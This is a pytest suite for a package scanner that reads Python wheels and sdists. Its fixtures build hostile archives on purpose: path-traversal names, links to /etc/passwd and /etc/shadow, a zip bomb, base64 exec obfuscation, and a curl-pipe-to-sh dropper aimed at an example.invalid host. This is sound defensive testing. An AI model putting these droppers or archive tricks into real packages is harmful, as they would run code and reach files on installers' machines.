"""The safe archive reader: hostile structure becomes issues or 'could not inspect', never a crash."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jupyter_safepip.core import archive
from jupyter_safepip.core.archive import ArchiveUnreadable, read_archive
from jupyter_safepip.core.checks.archive import name_from_filename, scan_archive, scan_directory, scan_paths, ScanPathError
from jupyter_safepip.core.model import Severity
from tests.support.archives import make_sdist, make_wheel, severity


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    with tarfile.open(path, "w:gz") as out:
        for info, data in members:
            info.size = len(data) if info.isfile() else 0
            out.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return path


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    return info


def _issues(path: Path) -> set[str]:
    return {i.kind for i in read_archive(path, lambda n: True).issues}


def test_reads_wheel_and_sdist_members_in_memory(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, {"demo/__init__.py": "x = 1\n"})
    contents = read_archive(wheel, lambda n: n.endswith(".py"))
    init = next(m for m in contents.members if m.name == "demo/__init__.py")
    assert init.data == b"x = 1\n" and init.complete
    sdist = make_sdist(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n"})
    assert any(m.name == "demo-1.0/setup.py" and m.complete for m in read_archive(sdist, lambda n: True).members)
    assert set(tmp_path.iterdir()) == {wheel, sdist}  # nothing was extracted next to them


def test_unwanted_members_keep_only_their_head(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, {"demo/data.bin": b"\x00" * 10_000})
    member = next(m for m in read_archive(wheel, lambda n: n.endswith(".py")).members if m.name == "demo/data.bin")
    assert len(member.data) == archive.HEAD_BYTES and not member.complete and member.size == 10_000


@pytest.mark.parametrize(
    ("name", "kind", "link", "issue"),
    [
        ("../evil.py", tarfile.REGTYPE, "", "archive-path-traversal"),
        ("/etc/evil.py", tarfile.REGTYPE, "", "archive-path-traversal"),
        ("demo-1.0/link", tarfile.SYMTYPE, "../../../../etc/passwd", "archive-link-escape"),
        ("demo-1.0/abs", tarfile.SYMTYPE, "/etc/passwd", "archive-link-escape"),
        ("demo-1.0/hard", tarfile.LNKTYPE, "/etc/shadow", "archive-link-escape"),
        ("demo-1.0/README", tarfile.SYMTYPE, "README.md", "archive-link"),
        ("demo-1.0/docs/CONTRIBUTING.md", tarfile.SYMTYPE, "../CONTRIBUTING.md", "archive-link"),  # stays inside
        ("demo-1.0/docs/out", tarfile.SYMTYPE, "../../../outside", "archive-link-escape"),  # its twin leaves
        ("demo-1.0/dev", tarfile.CHRTYPE, "", "archive-special-file"),
        ("demo-1.0/fifo", tarfile.FIFOTYPE, "", "archive-special-file"),
    ],
)
def test_hostile_tar_members_become_issues(tmp_path: Path, name: str, kind: bytes, link: str, issue: str) -> None:
    path = _tar(tmp_path / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n"), (_info(name, kind, link), b"")])
    assert issue in _issues(path)


def _kinds(path: Path) -> dict[str, set[str]]:
    """Issue kinds by member name."""
    found: dict[str, set[str]] = {}
    for issue in read_archive(path, lambda n: True).issues:
        found.setdefault(issue.name, set()).add(issue.kind)
    return found


def _sdist_holding(tmp_path: Path, where: str, inner: list[tuple[tarfile.TarInfo, bytes]], name: str = "demo") -> Path:
    """An sdist that ships an archive (built here, harmless) at `where` under its root."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    data = _tar(tmp_path / f"inner-{len(list(tmp_path.iterdir()))}.tar.gz", inner)
    return _tar(tmp_path / f"{name}-1.0.tar.gz", [(_info(f"{name}-1.0/setup.py"), b"x=1\n"),
                                                    (_info(f"{name}-1.0/{where}"), data.read_bytes())])


@pytest.mark.parametrize(
    ("links", "escapes"),
    [
        # pyparsing 3.3.3: docs/CONTRIBUTING.md -> ../CONTRIBUTING.md, inside the archive
        ([("demo-1.0/docs/CONTRIBUTING.md", "../CONTRIBUTING.md")], set()),
        ([("demo-1.0/docs/out", "../../outside")], {"demo-1.0/docs/out"}),
        # through another link of the archive, as the unpacked tree resolves it
        ([("demo-1.0/a/up", ".."), ("demo-1.0/b", "a/up/c")], set()),
        ([("demo-1.0/a/up", "../.."), ("demo-1.0/b", "a/up/etc")], {"demo-1.0/a/up", "demo-1.0/b"}),
        ([("demo-1.0/a/up", ".."), ("demo-1.0/b", "a/up/../../etc")], {"demo-1.0/b"}),  # lexically inside, really not
        ([("demo-1.0/loop1", "loop2"), ("demo-1.0/loop2", "loop1")], set()),  # resolves to nothing
    ],
)
def test_a_link_escapes_only_when_its_target_leaves_the_archive(tmp_path: Path, links, escapes) -> None:
    path = _tar(tmp_path / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n")]
                + [(_info(name, tarfile.SYMTYPE, target), b"") for name, target in links])
    kinds = _kinds(path)
    assert {name for name, found in kinds.items() if "archive-link-escape" in found} == escapes
    assert all("archive-link" in kinds[name] for name, _ in links if name not in escapes)


def test_a_file_written_through_a_link_that_leaves_the_archive_is_an_escape(tmp_path: Path) -> None:
    def sdist(target: str) -> Path:
        return _tar(tmp_path / f"demo-{len(target)}.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n"),
                                                               (_info("demo-1.0/sub/d", tarfile.SYMTYPE, target), b""),
                                                               (_info("demo-1.0/sub/d/x.pth"), b"")])
    assert "archive-link-escape" in _kinds(sdist("../../.."))["demo-1.0/sub/d/x.pth"]
    assert "demo-1.0/sub/d/x.pth" not in _kinds(sdist("../real"))  # its twin stays inside


def test_links_too_many_to_resolve_are_said_to_be_unchecked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_LINK_STEPS", 500)
    long_way = "/".join(["a", ".."] * 200) + "/x"  # a long way round to a place inside
    path = _tar(tmp_path / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n")]
                + [(_info(f"demo-1.0/l{i}", tarfile.SYMTYPE, long_way), b"") for i in range(20)])
    contents = read_archive(path, lambda n: True)
    assert any("were not all resolved" in why for why in contents.incomplete)
    assert "archive-link-escape" not in {i.kind for i in contents.issues}
    assert scan_archive(path).errors  # partly inspected: could not check, never a pass


def test_a_link_inside_a_nested_archive_is_resolved_within_that_archive(tmp_path: Path) -> None:
    # pre-commit 4.7.0: pre_commit/resources/rbenv.tar.gz!rbenv/bin/rbenv -> ../libexec/rbenv
    def nested(target: str) -> Path:
        return _sdist_holding(tmp_path / target.replace("/", "_").replace(".", "d"), "demo/resources/rbenv.tar.gz",
                              [(_info("rbenv/libexec/rbenv"), b"#!/bin/sh\n"), (_info("rbenv/bin/rbenv", tarfile.SYMTYPE, target), b"")])
    inside = _kinds(nested("../libexec/rbenv"))
    assert inside["demo-1.0/demo/resources/rbenv.tar.gz!rbenv/bin/rbenv"] == {"archive-nested-structure"}
    assert not any("archive-link-escape" in found for found in inside.values())
    # The nested archive's root is its own: a target that climbs out of it, even into the outer archive, escapes.
    assert "archive-link-escape" in _kinds(nested("../../../x"))["demo-1.0/demo/resources/rbenv.tar.gz!rbenv/bin/rbenv"]
    shipped = scan_archive(nested("../../../../etc/passwd"))
    assert severity(shipped, "archive-link-escape") == Severity.HIGH
    assert "outside the archive it is in (demo-1.0/demo/resources/rbenv.tar.gz)" in str(shipped.findings)


# backports_zstd: device files and links in a test-data tar under tests/
SPECIAL = [(_info("dev", tarfile.CHRTYPE), b""), (_info("fifo", tarfile.FIFOTYPE), b""), (_info("link", tarfile.SYMTYPE, "dev"), b""),
           (_info("dup"), b"a"), (_info("dup"), b"b")]


@pytest.mark.parametrize("where", ["tests/data/data.tar", "demo/data.tar"])
def test_links_device_files_and_repeated_names_in_a_nested_archive_are_information(tmp_path: Path, where: str) -> None:
    scan = scan_archive(_sdist_holding(tmp_path, where, SPECIAL))
    assert severity(scan, "archive-nested-structure") == Severity.INFO
    assert not {"archive-special-file", "archive-link", "archive-duplicate-name"} & {f.rule_id for f in scan.findings}
    assert max(f.severity for f in scan.findings) == Severity.INFO
    # The same members in the package itself keep their weight: pip unpacks an sdist.
    outer = _tar(tmp_path / "demo-2.0.tar.gz", [(_info("demo-2.0/setup.py"), b"x=1\n")]
                 + [(_info(f"demo-2.0/{i.name}", i.type, i.linkname), data) for i, data in SPECIAL])
    assert severity(scan_archive(outer), "archive-special-file") == Severity.HIGH


def test_an_escape_from_a_nested_archive_weighs_less_under_tests(tmp_path: Path) -> None:
    escape = [(_info("link", tarfile.SYMTYPE, "../../x"), b""), (_info("../evil"), b"")]
    in_tests = scan_archive(_sdist_holding(tmp_path / "t", "tests/data/data.tar", escape))
    shipped = scan_archive(_sdist_holding(tmp_path / "s", "demo/data.tar", escape))
    for rule in ("archive-link-escape", "archive-path-traversal"):
        assert severity(in_tests, rule) == Severity.LOW and severity(shipped, rule) == Severity.HIGH


def test_a_nested_archive_that_cannot_be_opened_weighs_less_under_tests(tmp_path: Path) -> None:
    def holding(where: str) -> Path:
        folder = tmp_path / where.replace("/", "_")
        folder.mkdir()
        return _tar(folder / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n"),
                                                 (_info(f"demo-1.0/{where}"), b"\x1f\x8b" + b"not gzip" * 10)])
    assert severity(scan_archive(holding("tests/data/corrupt.tar.gz")), "archive-nested-unreadable") < Severity.MEDIUM
    assert severity(scan_archive(holding("demo/corrupt.tar.gz")), "archive-nested-unreadable") == Severity.MEDIUM


def test_benign_tar_has_no_issues(tmp_path: Path) -> None:
    path = _tar(tmp_path / "demo-1.0.tar.gz", [(_info("demo-1.0/setup.py"), b"x=1\n"), (_info("demo-1.0/a/b.py"), b"")])
    assert _issues(path) == set()


def test_zip_traversal_duplicates_and_symlinks(tmp_path: Path) -> None:
    path = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as out, pytest.warns(UserWarning):
        out.writestr("../../outside.py", "x = 1")
        out.writestr("demo/a.py", "x = 1")
        out.writestr("demo/a.py", "x = 2")
        link = zipfile.ZipInfo("demo/link")
        link.external_attr = (0o120777 << 16)
        out.writestr(link, "/etc/passwd")
    assert {"archive-path-traversal", "archive-duplicate-name", "archive-link-escape"} <= _issues(path)


def test_zip_bomb_is_not_inflated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "RATIO_MIN_BYTES", 1024)
    path = tmp_path / "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("bomb/zeros.py", b"\x00" * 5_000_000)
    contents = read_archive(path, lambda n: True)
    assert "archive-bomb" in {i.kind for i in contents.issues}
    assert contents.bytes_read < 1_000_000


def test_total_size_limit_stops_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_TOTAL_BYTES", 50_000)
    path = make_sdist(tmp_path, {f"m{i}.py": "x = 1\n" * 2000 for i in range(20)})
    contents = read_archive(path, lambda n: True)
    assert contents.incomplete and contents.bytes_read <= 50_000 + archive.MAX_MEMBER_BYTES


def test_member_count_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_MEMBERS", 10)
    path = make_wheel(tmp_path, {f"demo/m{i}.py": "" for i in range(30)})
    contents = read_archive(path, lambda n: True)
    assert len(contents.members) <= 10 and "archive-too-many-members" in {i.kind for i in contents.issues}
    scan = scan_archive(path)
    assert scan.errors and "partly inspected" in scan.errors[0].reason


def test_nested_archive_is_inspected(tmp_path: Path) -> None:
    inner = make_sdist(tmp_path, {"demo/__init__.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"}, name="inner")
    outer = make_wheel(tmp_path, {"demo/vendor/inner-1.0.tar.gz": inner.read_bytes()})
    scan = scan_archive(outer)
    assert severity(scan, "obfuscation-exec-decoded") is not None
    assert any("!" in e.location for f in scan.findings for e in f.evidence)


def test_corrupt_and_encrypted_archives_could_not_be_inspected(tmp_path: Path) -> None:
    garbage = tmp_path / "demo-1.0.tar.gz"
    garbage.write_bytes(b"\x1f\x8b" + b"not really gzip" * 10)
    scan = scan_archive(garbage)
    assert scan.errors and scan.errors[0].reason.startswith("could not inspect") and not scan.findings
    wheel = make_wheel(tmp_path, {"demo/a.py": "x = 1\n"})
    data = bytearray(wheel.read_bytes())
    # Set the "encrypted" flag bit in every local and central header.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            data[start + offset] |= 1
            start += 4
    wheel.write_bytes(bytes(data))
    scan = scan_archive(wheel)
    assert scan.errors and "encrypted" in scan.errors[0].reason


def test_renamed_wheel_is_read_by_content(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, {"demo/a.py": "exec(__import__('base64').b64decode('eA=='))\n"})
    renamed = wheel.rename(tmp_path / "demo-1.0-py3-none-any.tar.gz")
    assert severity(scan_archive(renamed), "obfuscation-exec-decoded") is not None


def test_names_from_filenames() -> None:
    assert name_from_filename("My_Pkg-1.0.tar.gz") == "my-pkg"
    assert name_from_filename("my_pkg-1.0-py3-none-any.whl") == "my-pkg"


def test_scan_directory_and_paths(tmp_path: Path) -> None:
    tree = tmp_path / "proj"
    (tree / "pkg").mkdir(parents=True)
    (tree / "setup.py").write_text("import os\nos.system('curl http://x.invalid/a | sh')\n")
    (tree / "pkg" / "__init__.py").write_text("")
    scan = scan_directory(tree)
    assert severity(scan, "shell-dropper-command") is Severity.CRITICAL
    assert scan.files_scanned == 2
    results = scan_paths([tree])
    assert results[0][0] == tree
    with pytest.raises(ScanPathError):
        scan_paths([tmp_path / "missing"])


# Property tests: random bytes and mutated real archives never raise, and the limits hold.

_SMALL_LIMITS = {"MAX_MEMBERS": 50, "MAX_TOTAL_BYTES": 200_000, "MAX_MEMBER_BYTES": 100_000}


def _seed_archives(tmp_path: Path) -> list[bytes]:
    files = {"setup.py": "import os\nos.system('echo hi')\n", "demo/__init__.py": "x = 1\n" * 50}
    return [make_sdist(tmp_path, files).read_bytes(), make_wheel(tmp_path, files).read_bytes()]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_mutated_archives_never_crash(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: st.DataObject) -> None:
    for name, value in _SMALL_LIMITS.items():
        monkeypatch.setattr(archive, name, value)
    seed = bytearray(data.draw(st.sampled_from(_seed_archives(tmp_path))))
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(seed) - 1))
        seed[position] = data.draw(st.integers(0, 255))
    if data.draw(st.booleans()):
        seed = seed[: data.draw(st.integers(0, len(seed)))]
    path = tmp_path / data.draw(st.sampled_from(["x-1.0.tar.gz", "x-1.0-py3-none-any.whl", "x-1.0.zip"]))
    path.write_bytes(bytes(seed))
    try:
        contents = read_archive(path, lambda n: True)
    except ArchiveUnreadable:
        contents = None
    if contents is not None:
        assert len(contents.members) <= archive.MAX_MEMBERS
        assert all(len(m.data) <= archive.MAX_MEMBER_BYTES for m in contents.members)
    scan = scan_archive(path)
    assert scan.findings or scan.errors or scan.files_scanned >= 0


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(blob=st.binary(max_size=2048), suffix=st.sampled_from([".tar.gz", ".whl", ".zip", ".tar.bz2", ".egg"]))
def test_random_bytes_never_crash(tmp_path: Path, blob: bytes, suffix: str) -> None:
    path = tmp_path / f"rand-1.0{suffix}"
    path.write_bytes(blob)
    scan = scan_archive(path)
    assert isinstance(scan.files_scanned, int) and scan.bytes_scanned <= len(blob) * 2000 + 10_000


def test_code_under_tests_is_not_parsed_unless_the_package_imports_it(tmp_path: Path) -> None:
    dropper = "import os\nos.system('curl https://example.invalid/x | sh')\n"
    scan = scan_archive(make_wheel(tmp_path, {"demo/__init__.py": "", "demo/tests/test_x.py": dropper}))
    assert scan.files_scanned == 1 and not scan.findings
    hidden = {"demo/__init__.py": "from .docs import conf\n", "demo/docs/__init__.py": "", "demo/docs/conf.py": dropper,
              "demo/examples/run.py": dropper}
    scan = scan_archive(make_wheel(tmp_path / "hidden", hidden))
    assert scan.files_scanned == 3  # __init__, docs/__init__ and docs/conf: examples/run.py is still skipped
    assert severity(scan, "shell-dropper-command") >= Severity.HIGH
    assert {e.location for f in scan.findings for e in f.evidence} == {"demo/docs/conf.py"}
    src_layout = {"setup.py": "from setuptools import setup\nsetup()\n", "src/demo/__init__.py": "import demo.testing.helpers\n",
                  "src/demo/testing/__init__.py": "", "src/demo/testing/helpers.py": dropper, "docs/helpers.py": dropper}
    scan = scan_archive(make_sdist(tmp_path / "src", src_layout))
    locations = {e.location.split("/", 1)[1] for f in scan.findings for e in f.evidence}
    assert locations == {"src/demo/testing/helpers.py"}  # `import demo.testing.helpers` does not run docs/helpers.py
    setup = scan_archive(make_sdist(tmp_path / "s", {"setup.py": dropper, "tests/helper.py": dropper}))
    assert severity(setup, "shell-dropper-command") is Severity.CRITICAL  # setup.py itself is never skipped


DROPPER = "import os\nos.system('curl https://example.invalid/x | sh')\n"


@pytest.mark.parametrize("package", ["sample_utils", "docs_builder", "test_helpers"])
def test_a_package_named_like_tests_or_docs_is_still_read(tmp_path: Path, package: str) -> None:
    wheel = scan_archive(make_wheel(tmp_path / "w", {f"{package}/__init__.py": DROPPER}, name=package))
    assert severity(wheel, "shell-dropper-command") is not None
    sdist = scan_archive(make_sdist(tmp_path / "s", {"setup.py": "from setuptools import setup\nsetup()\n",
                                                     "demo/__init__.py": DROPPER}, name=f"x-{package}"))
    assert severity(sdist, "shell-dropper-command") is not None  # the sdist's own top directory does not count


def test_tests_imported_by_setup_py_run_at_install_time(tmp_path: Path) -> None:
    files = {"setup.py": "import tests.helper\nfrom setuptools import setup\nsetup()\n", "tests/__init__.py": "",
             "tests/helper.py": DROPPER}
    scan = scan_archive(make_sdist(tmp_path, files))
    assert severity(scan, "shell-dropper-command") is Severity.CRITICAL


def test_a_test_module_is_weighed_down_unless_the_package_imports_it(tmp_path: Path) -> None:
    alone = scan_archive(make_wheel(tmp_path / "a", {"demo/__init__.py": "", "demo/test_utils.py": DROPPER}))
    imported = scan_archive(make_wheel(tmp_path / "b", {"demo/__init__.py": "from . import test_utils\n",
                                                        "demo/test_utils.py": DROPPER}))
    assert severity(alone, "shell-dropper-command") < severity(imported, "shell-dropper-command")
    assert "test module" in next(f.message for f in alone.findings if f.rule_id == "shell-dropper-command")
    assert "test module" not in next(f.message for f in imported.findings if f.rule_id == "shell-dropper-command")
    setup = scan_archive(make_sdist(tmp_path / "s", {"setup.py": "import conftest\nfrom setuptools import setup\nsetup()\n",
                                                     "conftest.py": DROPPER}))
    assert severity(setup, "shell-dropper-command") is Severity.CRITICAL


def test_test_data_is_weighed_down_and_nested_test_archives_are_not_promoted(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
    assert severity(scan_archive(make_wheel(tmp_path / "a", {"demo/logo.png": elf})), "binary-disguised") is Severity.HIGH
    data = scan_archive(make_wheel(tmp_path / "b", {"demo/__init__.py": "", "demo/tests/data/logo.png": elf}))
    assert severity(data, "binary-disguised") < Severity.MEDIUM
    fixture = make_wheel(tmp_path / "fixture", {"demo/__init__.py": DROPPER}).read_bytes()
    nested = scan_archive(make_wheel(tmp_path / "c", {"demo/__init__.py": "from demo import util\n", "demo/util.py": "",
                                                      "demo/tests/data/fixture.whl": fixture}))
    assert severity(nested, "shell-dropper-command") is None


def test_a_small_wheel_with_a_large_compressible_data_file_is_no_bomb(tmp_path):
    """Zero-filled model weights inflate a thousand times, to tens of megabytes: data, not a compression bomb."""
    from tests.support.archives import scan_wheel, severity

    scan = scan_wheel(tmp_path, {"demo/__init__.py": "", "demo/weights.npy": bytes(30 * 1024 * 1024)})
    assert severity(scan, "archive-bomb") is None


def test_source_too_large_to_read_is_said_but_large_model_weights_are_not(tmp_path, monkeypatch):
    from jupyter_safepip.core import archive as reader
    from tests.support.archives import scan_wheel

    monkeypatch.setattr(reader, "MAX_MEMBER_BYTES", 4096)
    code = scan_wheel(tmp_path / "code", {"demo/__init__.py": "import os\n" + "#" * 8000 + "\n"})
    assert any("demo/__init__.py is larger than 4096 bytes" in e.reason for e in code.errors), code.errors
    weights = scan_wheel(tmp_path / "weights", {"demo/__init__.py": "", "demo/assets/model.pth": bytes(8000)})
    assert not weights.errors


def test_a_big_wheel_is_read_from_its_file_not_held_in_memory(tmp_path):
    import random
    import tracemalloc

    weights = random.Random(0).randbytes(32 << 20)  # stored as it is: the wheel is over 32 MB
    path = tmp_path / "weighty-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as wheel:
        wheel.writestr("weighty/__init__.py", "import os\n")
        wheel.writestr("weighty/weights.bin", weights)
    del weights
    tracemalloc.start()
    try:
        contents = read_archive(path, lambda name: name.endswith(".py"))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert {m.name: m.complete for m in contents.members} == {"weighty/__init__.py": True, "weighty/weights.bin": False}
    assert peak < 4 << 20, f"reading peaked at {peak >> 20} MB"  # the file's bytes were never all in memory

